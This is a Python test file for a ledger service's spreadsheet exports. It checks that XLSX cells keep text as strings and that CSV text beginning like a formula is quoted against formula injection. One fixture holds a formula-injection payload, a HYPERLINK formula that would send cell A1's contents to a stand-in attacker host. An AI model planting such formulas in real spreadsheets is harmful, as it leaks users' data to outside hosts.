"""Exports carry text, never live formulas: XLSX text cells are strings whatever they start with,
CSV text that starts like a formula gets a leading ' (OWASP), numbers stay numbers; from the
service (figures, ledger report) and from the CLI (ledger-report --format xlsx, match)."""

from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from service.accounts.tables import UserRole
from service.cli import main
from service.ledger.export import Section
from service.ledger.workbook import csv_safe, sections_bytes
from tests.factories import auth_headers, make_enterprise, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# A carriage return is left out: XML reads it back as a line feed, whatever the cell type.
FORMULA_LIKE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx")


def _cells(data: bytes, sheet: str) -> list[list[tuple[object, str]]]:
    book = load_workbook(io.BytesIO(data))
    return [[(c.value, c.data_type) for c in row] for row in book[sheet].iter_rows()]


def test_text_cells_are_strings_and_numbers_stay_numbers() -> None:
    section = Section(
        "表",
        ("名称", "金额"),
        tuple((text, Decimal("-12.50")) for text in FORMULA_LIKE) + (("轴承", -3),),
        ("text", "money"),
    )
    rows = _cells(sections_bytes([section], notes=[HYPERLINK]), "表")
    assert rows[0] == [("名称", "s"), ("金额", "s")]
    assert rows[1:] == [
        *([(text, "s"), (-12.5, "n")] for text in FORMULA_LIKE),
        [("轴承", "s"), (-3, "n")],
    ]
    assert _cells(sections_bytes([section], notes=[HYPERLINK]), "说明") == [[(HYPERLINK, "s")]]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("轴承 = 标准件", "轴承 = 标准件"),
    ],
)
def test_csv_text_that_starts_like_a_formula_gets_a_quote(text: str, written: str) -> None:
    assert csv_safe(text) == written


def test_figures_workbook_holds_a_ledger_formula_as_text(
    client: TestClient, session: Session
) -> None:
    owner = make_enterprise(session, name="甲链主有限公司", owner=True, supplier=False)
    headers = auth_headers(client, make_user(session, role=UserRole.owner, enterprise=owner))
    ledger = f'item,supplier,supplier_region,amount,period\n"{HYPERLINK.replace(chr(34), 2 * chr(34))}",@乙公司,421202,-0,2025-03\n'
    imported = client.post(
        "/api/v1/purchases/import",
        params={"owner_id": owner.id},
        files={"file": ("l.csv", ledger.encode(), "text/csv")},
        headers=headers,
    )
    assert imported.status_code == 201, imported.text
    response = client.get(
        "/api/v1/metrics/rates", params={"owner_id": owner.id, "format": "xlsx"}, headers=headers
    )
    assert response.status_code == 200
    detail = _cells(response.content, "明细")
    header = [value for value, _ in detail[0]]
    row = dict(zip(header, detail[1], strict=True))
    assert row["采购品"] == (HYPERLINK, "s")
    assert row["供应商"] == ("@乙公司", "s")
    assert row["金额(元)"] == (0, "n")


def test_cli_ledger_report_xlsx_holds_formulas_as_text(tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.csv"
    ledger.write_text(
        "owner,item,supplier,supplier_region,amount,period\n"
        f'=1+1,"{HYPERLINK.replace(chr(34), 2 * chr(34))}",-乙,421202,100,2025-03\n',
        encoding="utf-8",
    )
    out = tmp_path / "report.xlsx"
    argv = ["ledger-report", "--ledger", str(ledger), "--home-region", "421200"]
    assert main([*argv, "--format", "xlsx", "--out", str(out)]) == 0
    single = _cells(out.read_bytes(), "唯一来源")
    assert single[1][:4] == [("=1+1", "s"), (HYPERLINK, "s"), ("-乙", "s"), ("421202", "s")]
    assert single[1][4] == (100, "n")
